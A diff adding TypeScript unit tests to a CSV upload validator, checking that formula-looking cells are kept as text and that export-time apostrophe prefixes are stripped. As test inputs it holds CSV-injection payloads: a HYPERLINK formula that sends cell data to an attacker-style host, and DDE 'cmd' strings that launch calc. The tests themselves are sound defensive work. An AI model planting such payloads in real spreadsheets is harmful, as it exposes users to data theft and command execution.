@@ -44,3 +44,20 @@ describe('validateCsvBytes: CSV bytes → typed rows', () => {
 		expect(v.rows).toEqual([]);
 	});
 });
+
+describe('formula-looking cells', () => {
+	const csv = (cells: string[]) =>
+		enc(['report_id,seq,kind,text,theme', ...cells.map((c, i) => `u1,${i + 1},问题,"${c.replaceAll('"', '""')}",其他`)].join('\n') + '\n');
+	it('are loaded as the text they are, never evaluated, with a note saying so', () => {
+		const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '+1', 'plain'];
+		const v = validateCsvBytes('findings.csv', csv(cells));
+		expect(v.problems).toEqual([]);
+		expect(v.rows.map((r) => r.text)).toEqual(cells);
+		expect(v.notes.map((n) => n.en)).toContain("4 text cells start with = + - @ (like spreadsheet formulas): kept as text, never evaluated; CSVs exported here prefix them with '");
+	});
+	it("the ' this site's CSV exports put before such text comes off again (a downloaded file uploads as it was)", () => {
+		const v = validateCsvBytes('findings.csv', csv(["'=1+1", "'@x", "'plain", "''=x"]));
+		expect(v.rows.map((r) => r.text)).toEqual(['=1+1', '@x', "'plain", "''=x"]);
+		expect(v.notes.map((n) => n.en)).toContain("2 cells: the ' a CSV export put before formula-looking text was removed");
+	});
+});
